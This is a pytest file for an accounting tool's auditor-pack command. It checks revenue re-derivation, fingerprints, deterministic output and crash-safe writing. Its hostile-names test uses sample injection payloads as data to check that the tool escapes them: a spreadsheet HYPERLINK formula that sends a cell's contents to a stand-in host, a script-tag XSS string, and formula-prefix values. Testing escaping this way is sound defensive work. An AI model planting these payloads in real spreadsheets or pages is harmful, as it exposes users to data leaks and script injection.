"""``tokenbooks audit-pack``: the auditor pack of the sample book's closed January.

The pack holds every part; each sampled revenue line is re-derived here to the cent from
the pack's files alone (counts x rates, the stream's exact amount rounded half up, the
cumulative split), with arithmetic of this file's own, not the library's; the raw
source lines are those of the archived files; the same seed gives the same bytes;
hostile names are escaped in CSV and Markdown; an interrupted run leaves no pack that
looks complete, and its re-run converges to the bytes of an uninterrupted one.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import math
import os
import shutil
import subprocess
import sys
from collections import defaultdict
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from fractions import Fraction as F
from pathlib import Path

import pytest
from click.testing import CliRunner
from closekit import PURCHASES, close, event, write_jsonl
from samplekit import copy_sample

from tokenbooks.plugins.reports import audit
from tokenbooks.scripts import audit_pack_cmd, writing
from tokenbooks.scripts.cli import cli

ROOT = Path(__file__).resolve().parents[1]
ENV = {**os.environ, "PYTHONPATH": os.pathsep.join(
    [str(ROOT), *filter(None, [os.environ.get("PYTHONPATH")])])}
TOKENBOOKS = [sys.executable, "-m", "tokenbooks.scripts.cli"]
SEED = 7
SIZE = 12



def eur(root: Path) -> bool:
    """Whether the sample holds the EUR customer's sources (`make sample` imports them)."""
    return any(root.glob("imports/*.usage-eur-*.beancount"))

def pack(ledger: Path, out: Path, period: str = "2026-01", size: int = SIZE,
         seed: int = SEED):
    return CliRunner().invoke(cli, ["audit-pack", "--ledger", str(ledger), "--period",
                                    period, "--out", str(out), "--sample", str(size),
                                    "--seed", str(seed)])


def files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample book with January closed; returns its main.beancount."""
    ledger = copy_sample(tmp_path_factory.mktemp("audit"))
    result = close(ledger, "2026-01")
    assert result.exit_code == 0, result.output
    return ledger


@pytest.fixture(scope="module")
def made(book: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("packs") / "2026-01"
    result = pack(book, out)
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def newer(book: Path, made: Path) -> Path:
    """The pack of another seed: what replaces ``made`` in the tests of interrupted runs."""
    out = made.parent / "newer"
    result = pack(book, out, seed=SEED + 3)
    assert result.exit_code == 0, result.output
    return out


def load(folder: Path, name: str) -> dict:
    return json.loads((folder / name).read_text(encoding="utf-8"))


# --- the parts ---------------------------------------------------------------------------


def test_the_pack_has_every_part_and_says_it_is_complete(book: Path, made: Path) -> None:
    assert sorted(files(made)) == sorted(audit.FILES)
    assert audit.verify(made) == []
    readme = (made / "README.md").read_text(encoding="utf-8")
    for name in audit.FILES[:-2]:
        assert f"| {audit.md(name)} |" in readme
    root = book.parent
    log = load(made, "contract-log.json")["rows"]
    kinds = {r["kind"] for r in log}
    assert {"contract", "pack", "breakage-revision", "modification", "price-book-version",
            "grant"} <= kinds
    # every clause at its YAML file and line: the line holds what the row names
    for row in log:
        text = (root / row["file"]).read_text().splitlines()[row["line"] - 1]
        if row["kind"] in ("modification", "grant", "pack", "contract"):
            assert row["item"] in text, (row, text)
        elif row["kind"] in ("price-book-rate", "breakage-revision", "price-book-version"):
            assert row["item"].rsplit(" ", 1)[-1] in text or row["date"] in text, (row, text)
    amend = next(r for r in log if r.get("item") == "umbrella-amend-2")
    assert (amend["approved_by"], amend["approved_on"]) == ("J. Doe, Controller",
                                                           "2026-03-13")
    assert amend["evidence"] == "documents/umbrella-amend-2.pdf"
    pending = next(r for r in log if r.get("item") == "globex-amend-1")
    assert pending["status"].startswith("pending")
    revision = next(r for r in log if r["kind"] == "breakage-revision")
    assert revision["detail"] == "rate 0.20 -> 0.10" and "-34.92" in revision["booked"]
    breakage = load(made, "breakage.json")["rows"]
    assert {"month", "in force"} <= {r["section"] for r in breakage}
    [check] = [r for r in load(made, "completeness.json")["rows"] if r["section"] == "check"]
    # (with the EUR customer's January, once the sample has it: docs/currency.md)
    events = "5872" if not eur(root) else "7012"
    assert check["status"] == "ok" and check["detail"].startswith(f"{events} events")
    prints = {r["evidence"]: r for r in load(made, "fingerprints.json")["rows"]}
    closed = (root / "closes" / "2026-01.beancount").read_text()
    fingerprint = prints["close directive"]["fingerprint"]
    assert f'fingerprint: "{fingerprint}"' in closed
    for name in ("manifest", "record", "recomputed"):
        assert prints[name]["fingerprint"] == fingerprint and prints[name]["agrees"] == "yes"
    record = json.loads((root / "reports" / "2026-01" / "lock.json").read_text())
    assert record["fingerprint"] == fingerprint
    sample = load(made, "sample.json")
    assert sample["size"] == SIZE and sample["population"] > SIZE
    assert len(load(made, "sample-weights.json")["rows"]) > SIZE
    assert len(load(made, "sample-entries.json")["rows"]) >= SIZE


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_the_git_tag_of_a_close_is_in_the_fingerprints(tmp_path: Path) -> None:
    ledger = copy_sample(tmp_path)
    book = ledger.parent
    git = ["git", "-C", str(book), "-c", "user.name=t", "-c", "user.email=t@example.com"]
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "book"]):
        subprocess.run([*git, *args], check=True, capture_output=True)
    assert close(ledger, "2026-01").exit_code == 0
    out = tmp_path / "pack"
    assert pack(ledger, out, size=1).exit_code == 0
    prints = {r["evidence"]: r for r in load(out, "fingerprints.json")["rows"]}
    tag = prints["git tag"]
    assert tag["path"] == "git tag tokenbooks/close/2026-01" and tag["agrees"] == "yes"
    assert tag["fingerprint"] == prints["close directive"]["fingerprint"]


# --- re-derived from the pack alone ------------------------------------------------------


def half_up(x: F) -> F:
    """To the cent, halves away from zero."""
    whole = math.floor(abs(x) * 100 + F(1, 2))
    return F(whole if x >= 0 else -whole, 100)


def value_of(lot: dict, credits: F) -> F:
    price, base, base_credits = F(lot["price"]), F(lot["base_revenue"]), F(lot["base_credits"])
    span = F(lot["credits"]) - base_credits
    return price if span <= 0 else base + (price - base) * (credits - base_credits) / span


def target_of(lot: dict) -> F:
    price, base, base_credits = F(lot["price"]), F(lot["base_revenue"]), F(lot["base_credits"])
    used, forfeited = F(lot["used"]), F(lot["forfeited"])
    if lot["closed"]:
        return price
    if lot["method"] == "proportional" and lot["expected"] is not None:
        span, done = F(lot["expected"]) - base_credits, used + forfeited - base_credits
        return price if span <= 0 or done >= span else base + (price - base) * done / span
    return value_of(lot, used + forfeited)


def tiered(tiers: dict | None, listed: F) -> F:
    if tiers is None or listed <= 0:
        return listed
    assert not tiers["retroactive"]
    bands = [(None if b["up_to"] is None else F(b["up_to"]), F(b["multiplier"]))
             for b in tiers["bands"]]
    if tiers["mode"] == "volume":
        return listed * next((m for up, m in bands if up is None or listed <= up),
                             bands[-1][1])
    total, lower = F(0), F(0)
    for up, multiplier in bands:
        if up is not None and listed > up:
            total, lower = total + (up - lower) * multiplier, up
            continue
        return total + (listed - lower) * multiplier
    return total + (listed - lower) * bands[-1][1]


def stream_amount(line: dict) -> F:
    """The revenue of the line's stream before the split (positive: revenue)."""
    s, account = line["stream"], line["posting"]["account"]
    if s["kind"] == "lot":
        lot = s["lot"]
        used = F(lot["used"])
        usage_exact = value_of(lot, used)
        actions_exact = usage_exact * F(lot["used_actions"]) / used if used else F(0)
        actions = half_up(actions_exact) - F(lot["posted_actions"])
        usage_total = half_up(usage_exact) - F(lot["posted_usage"])
        if account.endswith(":Breakage"):
            target = target_of(lot)
            total = half_up(target) - F(lot["posted_total"])
            unclaimed = F(0)
            if F(lot["unclaimed_share"]):
                unclaimed = (half_up(F(lot["unclaimed_share"]) * (target - usage_exact))
                             - F(lot["posted_unclaimed"]))
            return total - usage_total - unclaimed
        return actions if account.endswith(":Actions") else usage_total - actions
    if s["kind"] in ("arrears", "overage"):
        list_tokens, list_actions = F(s["list_tokens"]), F(s["list_actions"])
        listed = list_tokens + list_actions
        current = tiered(s["tiers"], listed)
        current_actions = current * list_actions / listed if listed else F(0)
        total = F(s["closed_total"]) + current
        actions_total = F(s["closed_actions"]) + current_actions
        target = total - F(s["withheld"])
        actions_target = actions_total * target / total if total else F(0)
        actions = half_up(actions_target) - F(s["posted_actions"])
        tokens = half_up(target) - F(s["posted_usage"]) - actions
        return actions if account.endswith(":Actions") else tokens
    if s["kind"] == "concession":
        lot, value = s["lot"], F(s["credit_value"])
        actions = half_up(F(lot["used_actions"]) * value) - F(lot["posted_face_actions"])
        tokens = half_up(F(lot["used"]) * value) - F(lot["posted_face"]) - actions
        if account.endswith(":Concessions"):
            return -(tokens + actions)
        return actions if account.endswith(":Actions") else tokens
    raise AssertionError(f"a stream this test does not re-derive: {s['kind']}")


def rederive(line: dict) -> F:
    """The line's revenue from the pack's figures alone; checks the ties on the way."""
    key_of = lambda row: (row["model"], row["feature"], row["action"])  # noqa: E731
    weights: dict[tuple, list[F]] = defaultdict(lambda: [F(0), F(0)])
    counts: dict[tuple, list[int]] = defaultdict(lambda: [0, 0, 0])
    for w in line["weights"]:
        assert w["valuation"] == "rates"
        per = F(w["per"])
        tokens = ((w["uncached_input_tokens"] * F(w["rate_input"] or 0)
                   + w["cached_input_tokens"] * F(w["rate_cached_input"] or 0)
                   + w["output_tokens"] * F(w["rate_output"] or 0)) / per)
        actions = F(0)
        if w["action_price"]:
            actions = F(w["action_price"]) * (w["completed"] * F(w["weight_completed"])
                                              + w["partial"] * F(w["weight_partial"])
                                              + w["failed"] * F(w["weight_failed"]))
        assert (tokens, actions) == (F(w["tokens_value"]), F(w["actions_value"])), w
        weights[key_of(w)][0] += tokens
        weights[key_of(w)][1] += actions
        for i, name in enumerate(("uncached_input_tokens", "cached_input_tokens",
                                  "output_tokens")):
            counts[key_of(w)][i] += w[name]
    value = sum((t + a for t, a in weights.values()), F(0))
    ties = line["ties"]  # the entries' value: credits drawn and blocked, and arrears
    assert F(ties["value"]) == value
    drawn = sum((F(lot["used"]) - F(lot["used_at_open"]) for lot in ties["lots"]), F(0))
    assert drawn == F(ties["drawn"])
    assert value == ((drawn + F(ties["blocked_credits"])) * F(ties["credit_value"])
                     + F(ties["list_added"]) / F(ties["multiplier"]))
    p = line["posting"]
    key = (p["model"], p["feature"], p["action"])
    # the entries it came from add up to the key's counts (all the segment's, unsplit)
    mine = [e for e in line["entries"] if F(e["tokens_value"]) or F(e["actions_value"])]
    got = [sum(e["input_tokens"] - e["cached_input_tokens"] for e in mine),
           sum(e["cached_input_tokens"] for e in mine), sum(e["output_tokens"] for e in mine)]
    if line["allocation"]["basis"] == "none":
        assert got == [sum(c[i] for c in counts.values()) for i in range(3)]
        return stream_amount(line)
    assert got == counts[key]
    assert sum((F(e["tokens_value"]) + F(e["actions_value"]) for e in mine), F(0)) == sum(
        weights[key])
    leg = stream_amount(line)
    assert leg == F(line["leg"])
    index = 0 if line["allocation"]["basis"] == "tokens" else 1
    split = {k: v[index] for k, v in weights.items() if v[index]}
    total = sum(split.values(), F(0))
    running, posted = F(0), F(0)
    for k in sorted(split):
        running += split[k]
        share = half_up(leg * running / total) - posted
        posted += share
        if k == key:
            return share
    raise AssertionError(f"{line['id']}: key {key} has no weight")


def test_each_sampled_line_rederives_to_the_cent_from_the_pack_alone(made: Path) -> None:
    lines = load(made, "sample.json")["lines"]
    assert len(lines) == SIZE
    kinds = set()
    for line in lines:
        revenue = rederive(line)
        assert -revenue == F(line["posting"]["amount"]), line["id"]
        assert line["rederived"] is True
        kinds.add((line["stream"]["kind"], line["posting"]["account"]))
    assert len(kinds) >= 2  # lots and arrears (the seed's draw)
    # the CSV says the same
    rows = list(csv.DictReader(io.StringIO((made / "sample.csv").read_text())))
    assert [(r["id"], r["amount"]) for r in rows] == [
        (line["id"], line["posting"]["amount"]) for line in lines]


def test_every_line_of_a_quarter_rederives(book: Path, tmp_path: Path) -> None:
    """All 92 usage revenue lines of the sample's quarter (the catch-up modification of
    March, overage, tiers, actions and proportional breakage among them)."""
    result = pack(book, tmp_path / "q1", "2026-Q1", size=1000)
    assert result.exit_code == 0, result.output
    doc = load(tmp_path / "q1", "sample.json")
    assert doc["size"] == doc["population"] == (92 if not eur(book.parent) else 102)
    for line in doc["lines"]:
        assert -rederive(line) == F(line["posting"]["amount"]), line["id"]
    streams = {(line["stream"]["kind"], line["posting"]["account"].rsplit(":", 1)[1])
               for line in doc["lines"]}
    assert {("lot", "Usage"), ("lot", "Breakage"), ("arrears", "Actions"),
            ("overage", "Usage")} <= streams
    months = {r["period"]: r["status"] for r in load(tmp_path / "q1", "completeness.json")
              ["rows"] if r["section"] == "check"}
    assert months == {"2026-01": "ok", "2026-02": "ok", "2026-03": "ok"}
    readme = (tmp_path / "q1" / "README.md").read_text()
    assert "| 2026-02 | no |" in readme  # not closed: said so


def test_the_sampled_lines_are_the_books_postings(book: Path, made: Path) -> None:
    from tokenbooks.scripts import loading

    entries, errors, _ = loading.load(book)
    assert errors == []
    by: dict[tuple[str, str], list] = {}
    for e in entries:
        if hasattr(e, "postings") and e.meta.get("rule") == "usage":
            by.setdefault((str(e.date), e.narration), []).append(e)
    for line in load(made, "sample.json")["lines"]:
        p = line["posting"]
        date, _, narration = p["transaction"].partition(" ")
        # (two customers' usage of a month can read alike: the line is one of them)
        found = [(q.account, str(q.units.number), (q.meta or {}).get("model", ""))
                 for e in by[(date, narration)] for q in e.postings[p["posting"] - 1:][:1]]
        assert (p["account"], p["amount"], p["model"]) in found


def test_the_raw_lines_are_those_of_the_archived_sources(book: Path, made: Path) -> None:
    root = book.parent
    rows = load(made, "sample-entries.json")["rows"]
    assert rows
    digests: dict[str, str] = {}
    for row in rows:
        path = root / row["document"]
        if row["document"] not in digests:
            digests[row["document"]] = hashlib.sha256(path.read_bytes()).hexdigest()
        assert digests[row["document"]] == row["sha256"]
        lines = path.read_bytes().split(b"\n")
        for end in ("first", "last"):
            raw = lines[row[f"{end}_line_no"] - 1]
            assert raw.decode("utf-8") == row[f"{end}_line"]
            assert hashlib.sha256(raw).hexdigest() == row[f"{end}_line_sha256"]
            assert json.loads(raw)["event_id"] == row[f"{end}_event"]
        # and the usage entry it names is in the book, with that provenance
        file, _, number = row["ref"].rpartition(":")
        text = (root / file).read_text().splitlines()[int(number) - 1:int(number) + 12]
        assert f'sha256: "{row["sha256"]}"' in "\n".join(text)


# --- determinism -------------------------------------------------------------------------


def test_the_same_seed_gives_the_same_bytes(book: Path, made: Path, tmp_path: Path) -> None:
    again = tmp_path / "again"
    assert pack(book, again).exit_code == 0
    assert files(again) == files(made)
    result = pack(book, again)  # into the same pack: nothing to write
    assert result.exit_code == 0 and "unchanged" in result.output
    other = tmp_path / "other"
    assert pack(book, other, seed=SEED + 1).exit_code == 0
    assert files(other)["sample.csv"] != files(made)["sample.csv"]
    assert files(other)["contract-log.csv"] == files(made)["contract-log.csv"]


def test_a_folder_of_other_files_is_refused(book: Path, tmp_path: Path) -> None:
    out = tmp_path / "mine"
    out.mkdir()
    (out / "notes.txt").write_text("keep me")
    result = pack(book, out)
    assert result.exit_code == 1 and "not an auditor pack's (notes.txt)" in result.output
    assert files(out) == {"notes.txt": b"keep me"}
    result = pack(book, book.parent / "documents" / "pack")
    assert result.exit_code == 1 and "documents/" in result.output


# --- hostile names -----------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1)', "a|b", "<script>alert(1)</script>",
           "+cmd", "@SUM(A1)", "-2+3", "*bold* _it_ [l](u) `x` #h"]


def hostile_book(folder: Path) -> Path:
    runner = CliRunner()
    assert runner.invoke(cli, ["init", str(folder / "book"), "--start", "2026-01-01"]
                         ).exit_code == 0
    book = folder / "book"
    for sub in ("customers", "price-books", "costs"):
        for path in (ROOT / "contracts" / sub).glob("*.yaml"):
            shutil.copy(path, book / "contracts" / sub)
    sources = folder / "sources"
    sources.mkdir()
    events = [event(i, 1, 1 + i % 4, feature=HOSTILE[i % len(HOSTILE)]) for i in range(40)]
    write_jsonl(sources / "usage-2026-01.jsonl", events)
    (sources / "purchases.csv").write_text(PURCHASES, encoding="utf-8")
    ledger = book / "main.beancount"
    result = runner.invoke(cli, ["import", "--ledger", str(ledger),
                                 *sorted(map(str, sources.iterdir()))])
    assert result.exit_code == 0, result.output
    return ledger


def test_hostile_names_are_escaped_in_csv_and_markdown(tmp_path: Path) -> None:
    ledger = hostile_book(tmp_path)
    out = tmp_path / "pack"
    result = pack(ledger, out, size=1000)
    assert result.exit_code == 0, result.output
    lines = load(out, "sample.json")["lines"]
    features = {line["posting"]["feature"] for line in lines}
    assert set(HOSTILE) <= features  # as they are, in JSON
    for name in ("sample.csv", "sample-entries.csv", "sample-weights.csv"):
        for row in csv.DictReader(io.StringIO((out / name).read_text(encoding="utf-8"))):
            cell = row["feature"]
            if not cell:
                continue
            if cell[:1] in "=+-@":
                raise AssertionError(f"{name}: a formula cell {cell!r}")
            plain = cell[1:] if cell.startswith("'") else cell
            assert plain in HOSTILE
            assert cell.startswith("'") == plain.startswith(("=", "+", "-", "@"))
    readme = (out / "README.md").read_text(encoding="utf-8")
    assert "<script>" not in readme and "a\\|b" in readme and "\\<script\\>" in readme
    table = [r for r in readme.splitlines() if r.startswith("| S")]
    assert len(table) == len(lines)
    for row in table:  # 10 cell borders, none from a name
        assert row.replace("\\|", "").count("|") == 10, row


# --- interrupted runs --------------------------------------------------------------------


class FullDisk:
    def __init__(self, out) -> None:
        self.out = out

    def write(self, data) -> int:
        self.out.write(bytes(data)[: max(1, len(data) // 2)])
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


@contextmanager
def disk_full_at(k: int, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Path]]:
    real = writing.atomic_file
    opened: list[Path] = []

    @contextmanager
    def failing(path: Path):
        opened.append(path)
        with real(path) as out:
            yield FullDisk(out) if len(opened) == k else out

    with monkeypatch.context() as patch:
        patch.setattr(writing, "atomic_file", failing)
        yield opened


def texts(folder: Path) -> dict[str, str]:
    return {name: data.decode("utf-8") for name, data in files(folder).items()}


def test_a_failed_write_anywhere_leaves_no_pack_that_looks_complete(
        made: Path, newer: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A pack replaced by another seed's, the disk full at each file in turn: the folder
    is not a complete pack (README.md went first); writing again gives the new one."""
    new = texts(newer)
    changed = [n for n in new if n != audit.README and new[n] != texts(made).get(n)]
    assert "sample.json" in changed and "contract-log.csv" not in changed
    for k in range(1, len(changed) + 2):  # each part that changes, then README.md
        folder = tmp_path / f"full-{k}"
        shutil.copytree(made, folder)
        with disk_full_at(k, monkeypatch) as opened, pytest.raises(writing.WriteError):
            audit_pack_cmd.write_pack(folder, new)
        assert len(opened) == k
        assert not [p for p in folder.iterdir() if writing.is_temporary(p)]
        assert audit.verify(folder) != []  # README.md went first
        assert "README.md is missing" in audit.verify(folder)[0]
        audit_pack_cmd.write_pack(folder, new)
        assert files(folder) == files(newer), k
        assert audit.verify(folder) == []


def test_a_killed_run_leaves_no_pack_that_looks_complete_and_a_rerun_converges(
        book: Path, made: Path, newer: Path, tmp_path: Path) -> None:
    """``kill -9`` (the writer's test hook) after the first part lands and just before
    README.md is renamed into place; the killed runs are subprocesses, two at a time."""
    new, old = texts(newer), texts(made)
    operations = 1 + sum(1 for n in new if n != audit.README and new[n] != old.get(n)) + 1

    def killed(when: str) -> tuple[str, Path, subprocess.CompletedProcess[str]]:
        folder = tmp_path / f"killed-{when.replace(':', '-')}"
        shutil.copytree(made, folder)
        done = subprocess.run(
            [*TOKENBOOKS, "audit-pack", "--ledger", str(book), "--period", "2026-01",
             "--out", str(folder), "--sample", str(SIZE), "--seed", str(SEED + 3)],
            capture_output=True, text=True, timeout=300,
            env={**ENV, writing.FAULT_VARIABLE: when})
        return when, folder, done

    with ThreadPoolExecutor(2) as pool:
        runs = list(pool.map(killed, ["2", f"{operations}:tmp"]))
    for when, folder, done in runs:
        assert done.returncode == 137, (when, done.stdout, done.stderr)
        now = texts(folder)
        assert now != new and audit.verify(folder) != []  # not complete, and not claimed
        assert not (folder / audit.README).exists()
        for name, text in now.items():  # whole files: the old or the new
            assert writing.is_temporary(folder / name) or text in (old.get(name),
                                                                   new.get(name)), name
        result = pack(book, folder, seed=SEED + 3)
        assert result.exit_code == 0, result.output
        assert files(folder) == files(newer), when


# --- other books -------------------------------------------------------------------------

GOODWILL = ("    discount: 0.10\n    credit_value: 0.01\n    grants:\n      - {id: goodwill, "
            "date: 2026-01-05, credits: 2500, kind: concession, priority: 10}\n")


@pytest.mark.parametrize("variant", ["concession", "posting by day"])
def test_every_line_rederives_in_other_books(variant: str, tmp_path: Path) -> None:
    """A concession grant on an arrears contract (Usage against Concessions, and usage
    before the grant billed in arrears); the revenue posted day by day."""
    ledger = copy_sample(tmp_path)
    if variant == "concession":
        terms = tmp_path / "contracts" / "customers" / "globex.yaml"
        terms.write_text(terms.read_text().replace("    discount: 0.10\n", GOODWILL))
    else:
        ledger.write_text(ledger.read_text().replace("'posting': 'month'", "'posting': 'day'"))
    out = tmp_path / "pack"
    result = pack(ledger, out, size=1000)
    assert result.exit_code == 0, result.output
    doc = load(out, "sample.json")
    assert doc["size"] == doc["population"] > 0
    for line in doc["lines"]:
        assert -rederive(line) == F(line["posting"]["amount"]), line["id"]
    kinds = {(line["stream"]["kind"], line["posting"]["account"].rsplit(":", 1)[1])
             for line in doc["lines"]}
    if variant == "concession":
        assert {("concession", "Usage"), ("concession", "Concessions"),
                ("arrears", "Usage")} <= kinds
        log = load(out, "contract-log.json")["rows"]
        assert any(r["kind"] == "grant" and r["item"] == "goodwill" for r in log)
    else:
        assert len({line["posting"]["date"] for line in doc["lines"]}) > 20
